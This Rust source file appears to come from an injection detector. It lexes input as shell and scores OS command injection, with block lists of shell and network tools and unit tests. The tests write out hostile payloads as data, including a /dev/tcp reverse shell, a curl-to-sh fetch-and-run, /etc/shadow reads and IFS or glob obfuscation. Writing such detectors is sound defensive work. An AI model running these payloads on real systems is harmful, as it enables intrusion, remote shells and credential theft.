//! OS command injection: a shell lexer (POSIX sh: separators, pipes,
//! command substitution, quotes and backslashes that vanish, `$IFS`, brace
//! expansion, redirections) plus Windows cmd / PowerShell syntax, scoring
//! commands that land in command position.

use crate::{util, AttackClass, Ctx, Hit};

/// Commands that are hardly ever English words: their presence in command
/// position is enough.
const STRONG: &[&str] = &[
    "whoami",
    "wget",
    "curl",
    "uname",
    "ifconfig",
    "ipconfig",
    "nslookup",
    "netcat",
    "ncat",
    "nc",
    "bash",
    "sh",
    "zsh",
    "ksh",
    "dash",
    "csh",
    "tcsh",
    "busybox",
    "socat",
    "telnet",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "php",
    "node",
    "lua",
    "powershell",
    "pwsh",
    "cmd",
    "systeminfo",
    "tasklist",
    "taskkill",
    "certutil",
    "bitsadmin",
    "regsvr32",
    "rundll32",
    "mshta",
    "wscript",
    "cscript",
    "wmic",
    "schtasks",
    "netstat",
    "chmod",
    "chown",
    "crontab",
    "useradd",
    "passwd",
    "sudo",
    "nohup",
    "xterm",
    "nmap",
    "tftp",
    "ftp",
    "scp",
    "ssh",
    "base64",
    "xxd",
    "hexdump",
    "killall",
    "pkill",
    "uptime",
    "hostname",
    "id",
    "pwd",
    "ls",
    "dir",
    "ver",
    "env",
    "printenv",
    "getent",
    "lsb_release",
    "dmesg",
    "mkfifo",
    "mknod",
    "awk",
    "gawk",
    "sed",
    "xargs",
    "timeout",
    "sleep",
    "ping",
    "dig",
    "host",
    "traceroute",
    "iptables",
    "net",
    "reg",
    "sc",
    "vssadmin",
    "nltest",
    "findstr",
    "icacls",
    "cacls",
    "attrib",
    "msiexec",
    "wevtutil",
    "bcdedit",
    "rm",
    "cat",
    "echo",
    "type",
    "kill",
    "ps",
    "tail",
    "head",
    "find",
    "grep",
    "cp",
    "mv",
    "touch",
    "mkdir",
    "more",
    "less",
    "sort",
    "who",
    "w",
    "last",
    "tar",
    "zip",
    "unzip",
    "gzip",
    "dd",
    "tee",
    "expr",
    "eval",
    "exec",
    "export",
    "set",
    "source",
    "start",
    "call",
    "copy",
    "del",
    "move",
    "ren",
    "rename",
    "rd",
    "rmdir",
    "powershell.exe",
    "cmd.exe",
    "java",
    "javac",
    "gcc",
    "cc",
    "make",
    "apt",
    "apt-get",
    "yum",
    "pip",
    "npm",
    "git",
    "svn",
    "mail",
    "sendmail",
    "nl",
    "od",
    "strings",
    "file",
    "stat",
    "du",
    "df",
    "free",
    "lsof",
    "whereis",
    "which",
    "locate",
    "ip",
    "arp",
    "route",
    "systemctl",
    "service",
    "shutdown",
    "reboot",
    "halt",
    "init",
    "history",
    "alias",
    "unset",
    "printf",
    "cut",
    "tr",
    "rev",
    "wc",
    "uniq",
    "diff",
    "cmp",
    "base32",
    "openssl",
    "gpg",
    "at",
    "logger",
    "su",
    "chgrp",
    "ln",
    "readlink",
    "realpath",
    "basename",
    "dirname",
    "ulimit",
    "umask",
    "iex",
    "invoke-expression",
    "invoke-webrequest",
    "iwr",
    "invoke-restmethod",
    "irm",
    "start-process",
    "new-object",
    "get-content",
    "set-content",
    "get-childitem",
    "gc",
    "sal",
];

/// English-looking commands: only with shell-looking arguments.
const WEAK: &[&str] = &[
    "cat", "echo", "type", "kill", "ps", "tail", "head", "find", "grep", "cp", "mv", "touch", "mkdir", "more", "less",
    "sort", "who", "w", "last", "tar", "zip", "dd", "tee", "expr", "eval", "exec", "export", "set", "source", "start",
    "call", "copy", "del", "move", "ren", "rename", "rd", "java", "make", "mail", "nl", "od", "strings", "file",
    "stat", "du", "df", "free", "which", "locate", "ip", "at", "su", "ln", "printf", "cut", "tr", "rev", "wc", "uniq",
    "diff", "cmp", "alias", "unset", "history", "host", "ping", "sleep", "timeout", "net", "reg", "sc", "init",
    "service", "route", "free", "git", "pip", "npm", "apt", "time", "dir", "ls", "pwd", "id", "env", "ver", "sed",
    "awk", "rm", "shutdown", "halt", "reboot", "ssh", "ftp", "node", "php", "perl", "ruby", "lua", "python", "nc",
    "sh", "gc", "iex", "sal", "irm", "iwr", "halt", "dig",
];

fn strong_set() -> &'static std::collections::HashSet<&'static str> {
    static S: std::sync::OnceLock<std::collections::HashSet<&'static str>> = std::sync::OnceLock::new();
    S.get_or_init(|| STRONG.iter().copied().collect())
}

fn weak_set() -> &'static std::collections::HashSet<&'static str> {
    static S: std::sync::OnceLock<std::collections::HashSet<&'static str>> = std::sync::OnceLock::new();
    S.get_or_init(|| WEAK.iter().copied().collect())
}

#[derive(Clone, Copy, PartialEq, Eq, Debug)]
enum Sep {
    Start,
    Seq,
    Pipe,
    Subst,
}

/// A value as the shell reads it: segments of words. The words (quotes and escapes resolved) lie one
/// after another in `text`, each segment holding their ranges: one buffer for them all instead of a
/// String per word, which was an allocation per word of every value the shell detector reads.
struct Lexed {
    text: String,
    segs: Vec<Seg>,
}

impl Lexed {
    fn word(&self, range: &std::ops::Range<usize>) -> &str {
        &self.text[range.clone()]
    }
}

#[derive(Default, Debug)]
struct Seg {
    words: Vec<std::ops::Range<usize>>,
    sep: Option<Sep>,
    obfuscated: bool,
    redirect: bool,
    start: usize,
}

const MAX_SEGS: usize = 256;

#[allow(unused_assignments)] // the end_word! macro resets state it may not read again
fn lex(s: &str) -> Lexed {
    let b = s.as_bytes();
    let n = b.len();
    let mut segs: Vec<Seg> = vec![Seg {
        sep: Some(Sep::Start),
        ..Default::default()
    }];
    // The word being read is text[word_start..]. The words together are about the value's length.
    let mut text = String::with_capacity(s.len());
    let mut word_start = 0;
    let mut word_obf = false;
    let mut i = 0;
    let mut quote: u8 = 0;
    macro_rules! end_word {
        () => {
            if text.len() > word_start {
                let seg = segs.last_mut().unwrap();
                if seg.words.len() < 16 {
                    seg.words.push(word_start..text.len());
                } else {
                    text.truncate(word_start);
                }
                if word_obf {
                    seg.obfuscated = true;
                }
            }
            word_start = text.len();
            word_obf = false;
        };
    }
    macro_rules! new_seg {
        ($sep:expr, $at:expr) => {
            end_word!();
            if segs.len() < MAX_SEGS {
                if segs.last().is_some_and(|s| s.words.is_empty()) {
                    let l = segs.last_mut().unwrap();
                    // keep the strongest separator
                    if $sep == Sep::Subst || l.sep == Some(Sep::Start) {
                        l.sep = Some($sep);
                    }
                    l.start = $at;
                } else {
                    segs.push(Seg {
                        sep: Some($sep),
                        start: $at,
                        ..Default::default()
                    });
                }
            }
        };
    }
    while i < n {
        let c = b[i];
        if quote != 0 {
            if c == quote {
                quote = 0;
                word_obf = true;
            } else if c == b'\\' && quote == b'"' && i + 1 < n {
                text.push(b[i + 1] as char);
                i += 1;
            } else if c == b'`' || (c == b'$' && i + 1 < n && b[i + 1] == b'(') {
                // substitution inside double quotes still runs
                quote = 0;
                new_seg!(Sep::Subst, i);
                if c == b'$' {
                    i += 1;
                }
            } else if quoted_text(c) {
                // A run of text inside the quotes goes into the word at once (prose is mostly this).
                let run = 1 + b[i + 1..]
                    .iter()
                    .position(|&x| x == quote || !quoted_text(x))
                    .unwrap_or(n - i - 1);
                push_capped(&mut text, word_start, &s[i..i + run]);
                i += run;
                continue;
            } else if text.len() - word_start < 256 {
                text.push(c as char);
            }
            i += 1;
            continue;
        }
        match c {
            b' ' | b'\t' | 0x0b | 0x0c | b',' if c != b',' || segs.last().is_some_and(|s| s.obfuscated) => {
                end_word!();
            }
            b'\'' | b'"' => {
                quote = c;
            }
            b'\\' => {
                if i + 1 < n && b[i + 1] != b'\n' {
                    text.push(b[i + 1] as char);
                    word_obf = true;
                    i += 1;
                }
            }
            b'^' => word_obf = true,
            b';' | b'\n' | b'\r' => {
                new_seg!(Sep::Seq, i);
            }
            b'|' => {
                if i + 1 < n && b[i + 1] == b'|' {
                    i += 1;
                    new_seg!(Sep::Seq, i);
                } else {
                    new_seg!(Sep::Pipe, i);
                }
            }
            b'&' => {
                if i + 1 < n && b[i + 1] == b'&' {
                    i += 1;
                }
                new_seg!(Sep::Seq, i);
            }
            b'`' => {
                new_seg!(Sep::Subst, i);
            }
            b'$' => {
                if s[i..].starts_with("${ifs}") {
                    end_word!();
                    segs.last_mut().unwrap().obfuscated = true;
                    i += 6;
                    continue;
                }
                if s[i..].starts_with("$ifs") {
                    end_word!();
                    segs.last_mut().unwrap().obfuscated = true;
                    i += 4;
                    if i < n && b[i] == b'$' && i + 1 < n && b[i + 1].is_ascii_digit() {
                        i += 2;
                    }
                    continue;
                }
                if i + 1 < n && (b[i + 1] == b'@' || b[i + 1] == b'*') {
                    word_obf = true;
                    i += 2;
                    continue;
                }
                if i + 1 < n && b[i + 1] == b'(' {
                    i += 1;
                    new_seg!(Sep::Subst, i);
                } else if text.len() - word_start < 256 {
                    text.push('$');
                }
            }
            b'(' | b')' | b'{' | b'}' => {
                let brace_list = c == b'{' && b[i..n.min(i + 64)].contains(&b',');
                if c == b'(' || c == b'{' {
                    new_seg!(Sep::Seq, i);
                    if brace_list {
                        segs.last_mut().unwrap().obfuscated = true;
                    }
                } else {
                    end_word!();
                }
            }
            b'<' | b'>' => {
                end_word!();
                segs.last_mut().unwrap().redirect = true;
                if i + 1 < n && b[i + 1] == b'(' {
                    i += 1;
                    new_seg!(Sep::Subst, i);
                }
            }
            _ if c.is_ascii() => {
                // A run of ordinary bytes goes into the word at once; the run stops before any byte an
                // arm above handles (a `,` among them, whose arm depends on the segment).
                let run = 1 + b[i + 1..]
                    .iter()
                    .position(|&x| ENDS_PLAIN_RUN[x as usize])
                    .unwrap_or(n - i - 1);
                push_capped(&mut text, word_start, &s[i..i + run]);
                i += run;
                continue;
            }
            _ => {
                if text.len() - word_start < 256 {
                    text.push('\u{fffd}');
                }
            }
        }
        i += 1;
    }
    end_word!();
    Lexed { text, segs }
}

/// Bytes that end a run of word text outside quotes: the ones `lex` gives a meaning of their own, and
/// non-ASCII (a table: it is asked for every byte of every value the shell detector reads).
static ENDS_PLAIN_RUN: [bool; 256] = {
    let mut t = [false; 256];
    let special = b" \t\x0b\x0c,'\"\\^;\n\r|&`$(){}<>";
    let mut i = 0;
    while i < special.len() {
        t[special[i] as usize] = true;
        i += 1;
    }
    let mut c = 0x80;
    while c < 256 {
        t[c] = true;
        c += 1;
    }
    t
};

/// Whether a byte inside quotes is plain text to `lex`: ASCII, and none of the escape or substitution
/// bytes it handles one at a time (the closing quote is checked apart).
fn quoted_text(c: u8) -> bool {
    c.is_ascii() && !matches!(c, b'\\' | b'`' | b'$')
}

/// Appends ASCII `run` to the lexed word `text[word_start..]`, which stops growing at 256 bytes.
fn push_capped(text: &mut String, word_start: usize, run: &str) {
    let room = 256usize.saturating_sub(text.len() - word_start);
    text.push_str(&run[..run.len().min(room)]);
}

fn base_cmd(w: &str) -> (&str, bool) {
    let had_path = w.contains('/') || w.contains('\\');
    let name = w.rsplit(['/', '\\']).next().unwrap_or(w);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    (name, had_path)
}

/// The known command a shell glob in command position expands to (`ca?`, `wh*i`), if one.
fn glob_command(pattern: &str) -> Option<&'static str> {
    fn matches(p: &[u8], w: &[u8]) -> bool {
        match (p.first(), w.first()) {
            (None, None) => true,
            (Some(b'*'), _) => matches(&p[1..], w) || (!w.is_empty() && matches(p, &w[1..])),
            (Some(b'?'), Some(_)) => matches(&p[1..], &w[1..]),
            (Some(a), Some(b)) if a == b => matches(&p[1..], &w[1..]),
            _ => false,
        }
    }
    // a pattern of wildcards alone (`*`, `??`) names no command in particular
    if pattern.len() > 16 || pattern.bytes().filter(|c| c.is_ascii_alphanumeric()).count() < 2 {
        return None;
    }
    STRONG
        .iter()
        .copied()
        .find(|c| matches(pattern.as_bytes(), c.as_bytes()))
}

fn shellish(arg: &str) -> bool {
    let a = arg;
    (a.starts_with('-') && a.len() > 1 && a.len() < 30 && !a[1..].starts_with(' '))
        || a.starts_with('/')
        || a.starts_with("./")
        || a.starts_with("~/")
        || a.starts_with("../")
        || a.starts_with('$')
        || a.contains("://")
        || a.starts_with("%")
        || (a.len() >= 2
            && a.as_bytes()[0].is_ascii_alphabetic()
            && a.as_bytes()[1] == b':'
            && (a.len() == 2 || matches!(a.as_bytes()[2], b'\\' | b'/')))
}

const SENSITIVE_BINPATH: &[&str] = &[
    "/bin/",
    "/sbin/",
    "/usr/bin/",
    "/usr/sbin/",
    "/usr/local/bin/",
    "system32\\",
    "/system32/",
];

fn windows_batch(s: &str) -> Option<(u32, usize)> {
    // for /l %x in (...) do ...
    if let Some(p) = util::find_word(s, "for") {
        let rest = util::clip(s, p, p + 300);
        let flag = rest.contains(" /f") || rest.contains(" /l") || rest.contains(" /r") || rest.contains(" /d");
        if (flag || rest.contains(" %"))
            && util::find_word(rest, "in").is_some()
            && rest.contains('(')
            && util::find_word(rest, "do").is_some()
        {
            return Some((8, p));
        }
    }
    // if [/i] [not] exist|defined|errorlevel|cmdextversion X command,
    // if a==b command, if %a% lss %b% command
    let mut from = 0;
    while let Some(p) = util::find_word(&s[from..], "if").map(|x| x + from) {
        from = p + 2;
        let mut rest = util::clip(s, p + 2, p + 300).trim_start();
        if let Some(r) = rest.strip_prefix("/i ") {
            rest = r.trim_start();
        }
        let negated = rest.starts_with("not ");
        if let Some(r) = rest.strip_prefix("not ") {
            rest = r.trim_start();
        }
        let cond_kw = ["exist ", "defined ", "errorlevel ", "cmdextversion "]
            .iter()
            .any(|k| rest.starts_with(k));
        let first = rest.split_whitespace().next().unwrap_or("");
        let cmp = first.contains("==")
            || rest
                .split_whitespace()
                .nth(1)
                .is_some_and(|w| matches!(w, "==" | "===" | "equ" | "neq" | "lss" | "leq" | "gtr" | "geq"));
        let batch_operand =
            first.starts_with('%') || first.starts_with('!') || first.starts_with('[') || first.starts_with('"');
        if cond_kw
            || (cmp
                && (batch_operand
                    || negated
                    || rest.contains("echo")
                    || rest.contains("goto")
                    || rest.contains("set ")))
        {
            return Some((8, p));
        }
        // the whole value is `if [/i] A==B command` (cmd.exe string compare)
        if s[..p].trim().is_empty() {
            if let Some(e) = rest.find("==").filter(|e| *e < 80) {
                let right = rest[e + 2..].trim_start();
                let after = if let Some(r) = right.strip_prefix('"') {
                    r.find('"').map_or("", |q| &r[q + 1..])
                } else {
                    right.find(char::is_whitespace).map_or("", |q| &right[q..])
                };
                let after = after.trim_start();
                if !rest[..e].trim().is_empty() && after.starts_with(|c: char| c.is_ascii_alphabetic()) {
                    return Some((6, p));
                }
            }
        }
        if from > 4096 {
            break;
        }
    }
    // every variable starts with '%': most values have none
    if memchr::memchr(b'%', s.as_bytes()).is_some() {
        let at = crate::first_of!([
            "%comspec%",
            "%systemroot%",
            "%windir%",
            "%programfiles%",
            "%userprofile%",
            "%appdata%",
            "%computername%",
            "%username%",
            "%temp%",
            "%homepath%",
            "%errorlevel%",
        ])
        .positions(s);
        if let Some(p) = at.into_iter().flatten().next() {
            return Some((5, p));
        }
    }
    if let Some(p) = crate::finder!(b"@echo off").find(s.as_bytes()) {
        return Some((6, p));
    }
    None
}

pub fn check(ctx: &Ctx<'_>, out: &mut Vec<Hit>) {
    let s = ctx.lower;
    if s.len() < 2 {
        return;
    }
    let mut best: (u32, &'static str, usize) = (0, "", 0);
    let prose = util::prose_ratio(s) > 0.8 && s.len() > 50;
    score_segments(s, &lex(s), 0, prose, &mut best);
    // break-out: the value lands inside a quoted argument (`ping '$host'`), and a quote of its own
    // that has no partner, or one that opens the value (`" | cmd | "`), closes that argument; what
    // follows it runs as shell
    let b = s.as_bytes();
    for q in [b'\'', b'"'] {
        let opens = s.trim_start().as_bytes().first() == Some(&q);
        if opens || memchr::memchr_iter(q, b).count() % 2 == 1 {
            let p = memchr::memchr(q, b).unwrap_or(0) + 1;
            score_segments(&s[p..], &lex(&s[p..]), p, prose, &mut best);
        }
    }
    if let Some((sc, at)) = windows_batch(s) {
        if sc > best.0 {
            best = (sc, "RCE-002", at);
        }
    }
    // PowerShell / cmd launchers with their tell-tale flags (one pass for
    // all of them)
    const LAUNCHERS: [(&str, u32); 14] = [
        ("powershell -e", 8),
        ("powershell.exe -", 8),
        ("-encodedcommand", 8),
        ("cmd /c", 8),
        ("cmd.exe /c", 8),
        ("cmd /k", 8),
        ("cmd.exe /k", 8),
        ("downloadstring(", 8),
        ("invoke-expression", 8),
        ("/dev/tcp/", 9),
        ("/dev/udp/", 9),
        ("0<&196", 9),
        ("bash -i", 8),
        ("sh -i", 6),
    ];
    let at = crate::first_of!(LAUNCHERS.map(|(p, _)| p); LAUNCHERS.len()).positions(s);
    for ((_, sc), p) in LAUNCHERS.iter().zip(at) {
        if let Some(p) = p {
            if *sc > best.0 {
                best = (*sc, "RCE-003", p);
            }
        }
    }
    if best.0 > 0 {
        out.push(Hit::new(
            AttackClass::Rce,
            best.1,
            best.0,
            util::excerpt_at(ctx.value, best.2, 80),
        ));
    }
}

/// Score the commands of `segs` (lexed from `s`, which starts at byte `offset` of the value) into `best`.
fn score_segments(s: &str, lexed: &Lexed, offset: usize, prose: bool, best: &mut (u32, &'static str, usize)) {
    let segs = &lexed.segs;
    for (idx, seg) in segs.iter().enumerate() {
        let Some(first) = seg.words.first().map(|w| lexed.word(w)) else {
            continue;
        };
        let (mut name, had_path) = base_cmd(first);
        let mut globbed = false;
        // `/bin/ca?`, `/usr/bin/wh*mi`, `;ca? x`: the shell expands the pattern to the command. A bare
        // pattern opening the value is a wildcard search (`ta* -shirt`), not a command.
        let glob_position = had_path || seg.sep != Some(Sep::Start);
        if !strong_set().contains(name) && glob_position && name.contains(['?', '*']) {
            if let Some(m) = glob_command(name) {
                name = m;
                globbed = true;
            }
        }
        let args = &seg.words[1..];
        // `/usr/bin/anything -x ...`, also after an assignment (`cmd=/bin/unxz -c f`): a program named
        // by its path in a system binary directory, with arguments or after a separator
        let program = first.trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_');
        let program = program.strip_prefix('=').unwrap_or(first);
        let binpath_program = SENSITIVE_BINPATH.iter().any(|p| program.starts_with(p))
            && (!args.is_empty() || seg.sep != Some(Sep::Start));
        if !strong_set().contains(name) && !binpath_program {
            continue;
        }
        let weak = weak_set().contains(name);
        let shell_args = args.iter().any(|a| shellish(lexed.word(a))) || seg.redirect;
        let next_is_cmd = segs
            .get(idx + 1)
            .and_then(|x| x.words.first())
            .is_some_and(|w| strong_set().contains(base_cmd(lexed.word(w)).0));
        let sep = seg.sep.unwrap_or(Sep::Start);
        let binpath = had_path && SENSITIVE_BINPATH.iter().any(|p| first.contains(p));
        let mut sc: u32 = match sep {
            Sep::Subst => {
                if !weak || shell_args || args.is_empty() {
                    9
                } else {
                    4
                }
            }
            Sep::Seq | Sep::Pipe => {
                if !weak {
                    if args.is_empty() || shell_args || args.len() <= 3 {
                        8
                    } else {
                        5
                    }
                } else if shell_args {
                    8
                } else if args.is_empty()
                    && matches!(
                        name,
                        "ls" | "id"
                            | "pwd"
                            | "dir"
                            | "ver"
                            | "env"
                            | "ps"
                            | "w"
                            | "who"
                            | "set"
                            | "history"
                            | "ifconfig"
                    )
                {
                    7
                } else {
                    0
                }
            }
            Sep::Start => {
                if binpath {
                    8
                } else if !weak
                    && (shell_args
                        || args.is_empty() && seg.words.len() == 1 && segs.len() == 1 && s.len() == name.len())
                {
                    if args.is_empty() {
                        3
                    } else {
                        6
                    }
                } else if shell_args && next_is_cmd {
                    6
                } else if shell_args {
                    3
                } else {
                    0
                }
            }
        };
        if binpath {
            sc = sc.max(8);
        }
        if (seg.obfuscated || globbed) && sc > 0 {
            sc += 3;
        }
        if prose && sep != Sep::Subst {
            sc = sc.saturating_sub(4);
        }
        if sc > best.0 {
            *best = (sc, "RCE-001", offset + seg.start);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(v: &str) -> u32 {
        crate::max_score_of(check, v)
    }

    fn words(s: &str) -> Vec<Vec<String>> {
        let lexed = lex(s);
        lexed
            .segs
            .iter()
            .map(|seg| seg.words.iter().map(|w| lexed.word(w).to_string()).collect())
            .collect()
    }

    #[test]
    fn the_lexer_joins_quoted_and_plain_runs_into_words() {
        assert_eq!(words("ca't' /etc/pas\"swd\""), [["cat", "/etc/passwd"]]);
        assert_eq!(words("a 'b c'd;e"), [vec!["a", "b cd"], vec!["e"]]);
        // Inside double quotes a backslash escapes and `$(` still substitutes; in single quotes a
        // backslash is text.
        assert_eq!(words("x \"a\\\"b\" 'c\\d'"), [["x", "a\"b", "c\\d"]]);
        assert_eq!(words("echo \"hi $(id)\""), [vec!["echo", "hi "], vec!["id"]]);
        // `,` splits words only in an obfuscated segment (`{cat,/etc/passwd}`).
        assert_eq!(words("a,b"), [["a,b"]]);
        assert_eq!(words("{cat,/etc/passwd}"), [["cat", "/etc/passwd"]]);
        // Non-ASCII bytes outside quotes stand as U+FFFD each; words stop growing at 256 bytes.
        assert_eq!(words("é"), [["\u{fffd}\u{fffd}"]]);
        let long = "a".repeat(300);
        assert_eq!(
            words(&format!("'{long}' {long}"))[0]
                .iter()
                .map(String::len)
                .collect::<Vec<_>>(),
            [256, 256]
        );
    }

    #[test]
    fn cmd_if_compare() {
        assert!(score("if /i %x%==yes del x.txt") >= 5);
        assert!(score("IF \"a b\" == \"a b\" echo same") >= 5);
        assert!(score("if x==y dir") >= 5);
        assert!(score("what if a == b in the proof?") < 5);
    }

    #[test]
    fn attacks() {
        for a in [
            "; cat /etc/passwd",
            "| id",
            "`whoami`",
            "$(curl http://x/s.sh|sh)",
            "x;w'h'o'a'm'i",
            "127.0.0.1 && ping -c 3 evil",
            "a;cat${IFS}/etc/passwd",
            "/bin/cat /etc/shadow",
            "&& dir c:\\",
            "for /l %v in (1,1,2) do command",
            "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
            "cmd /c whoami",
            // a quote of its own closes the quoted argument the value lands in
            "me@example.com'|ping -c 3 127.0.0.1 #",
            "\" | type %SystemDrive%\\config.ini | \"",
            // globs the shell expands to a command
            "example.com;/bin/ca? /et*/passwd",
            "x|/usr/bin/wh*mi",
            // a program named by its path, also after an assignment
            "cmd=/bin/unxz -c /var/log/app.xz",
        ] {
            assert!(score(a) >= 5, "{a}: {}", score(a));
        }
    }

    #[test]
    fn benign() {
        for b in [
            "I love cats; cat food is great",
            "Tom & Jerry",
            "ls is a command to list files",
            "Find the best deals | Shop now",
            "Please echo my concerns to the team; thanks",
            "if you like it, then buy it",
            "red, green & blue",
            "It's great; cat lovers will love it",
            "O'Brien | Sales",
            "interpreter: /usr/bin/python3",
            "What's *new*? See the docs",
            "ta* -shirt",
            "py* -snake",
        ] {
            assert!(score(b) < 5, "{b}: {}", score(b));
        }
    }

    proptest::proptest! {
        #[test]
        fn lexer_never_panics(s in "\\PC{0,300}") {
            let _ = lex(&s.to_ascii_lowercase());
            let _ = score(&s);
        }
    }

    #[test]
    fn linear_on_pathological() {
        let s = ";".repeat(50000) + &"$(".repeat(50000);
        let t = std::time::Instant::now();
        let _ = score(&s);
        assert!(t.elapsed().as_millis() < 2000);
    }
}
